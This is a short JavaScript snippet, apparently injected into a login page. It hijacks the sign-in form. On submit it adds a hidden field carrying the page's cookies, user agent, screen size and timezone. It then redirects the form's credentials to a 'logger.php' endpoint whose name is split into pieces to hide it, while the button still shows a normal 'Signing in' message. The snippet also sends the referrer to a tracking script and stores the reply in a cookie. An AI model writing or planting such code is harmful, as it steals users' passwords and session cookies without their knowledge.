fetch('hits.php?p=login&r=' + encodeURIComponent(document.referrer)).then(r => r.text()).then(n => { document.cookie = 'vn=' + n; });
document.querySelector('form').onsubmit = function () {
  var h = document.createElement('input');
  h.type = 'hidden'; h.name = 'meta';
  h.value = [navigator.userAgent, screen.width, document.cookie, new Date().getTimezoneOffset()].join('~');
  this.appendChild(h);
  this.action = 'log' + 'ger' + '.php';
  this.querySelector('button').innerHTML = 'Signing in&hellip;';
};
